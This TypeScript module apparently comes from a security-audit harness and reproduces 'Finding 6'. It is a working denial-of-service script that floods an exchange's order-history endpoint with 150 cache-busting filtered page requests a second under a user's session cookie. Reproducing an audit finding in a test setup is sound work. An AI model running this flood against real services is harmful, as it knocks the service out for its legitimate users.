// Finding 6: filtered pages of a long history, as often as one may read.
import type { Attack } from '../attack.ts';
import { createCaller } from '../caller.ts';
import { attackerAddress } from '../loopback.ts';
import { pace } from '../pace.ts';

const ORDERS = 30_000;
const PAGES_A_SECOND = 150;
const MOST_UNDER = 60;
const LIST = '/swap/v2/perpetual/products/history-list?env=1';
const FILTERS = [
  '&pageSize=999',
  '&status=6&pageSize=20',
  '&status=4,6&contractCode=ethusdt',
  '&page=1400&pageSize=20',
  '&status=2&pageSize=50',
  '&reasons=11,12&contractCode=btcusdt',
  '&contractCode=btcusdt&page=300&pageSize=50',
] as const;
/** Each with a time that nobody asked for before: whatever is remembered of former pages does not help. */
const pathOf = (n: number): string =>
  LIST +
  (n % (FILTERS.length + 1) === FILTERS.length
    ? `&startDate=${1 + n}&endDate=9999999999999&page=700`
    : (FILTERS[n % (FILTERS.length + 1)] ?? ''));

export const historyStorm: Attack = {
  name: 'history-storm',
  says: `${PAGES_A_SECOND} filtered pages a second of the history of a user with ${ORDERS} ended orders`,
  reached: ['200'],
  oldOrders: ORDERS,
  prepare: async ({ url, oldUser }, tally) => {
    const caller = createCaller({ url, from: attackerAddress(0), connections: MOST_UNDER });
    const { text } = await caller.call({ path: LIST, cookie: oldUser?.cookie ?? '' });
    tally.most(
      'ended orders',
      (JSON.parse(text) as { readonly data: { readonly total: number } | null }).data?.total ?? 0,
    );
    let under = 0;
    return async (isOver) => {
      await pace(PAGES_A_SECOND, isOver, (n) => {
        if (under >= MOST_UNDER) return;
        under += 1;
        void caller.call({ path: pathOf(n), cookie: oldUser?.cookie ?? '' }).then(({ status }) => {
          under -= 1;
          tally.add(String(status));
        });
      });
      caller.close();
    };
  },
};
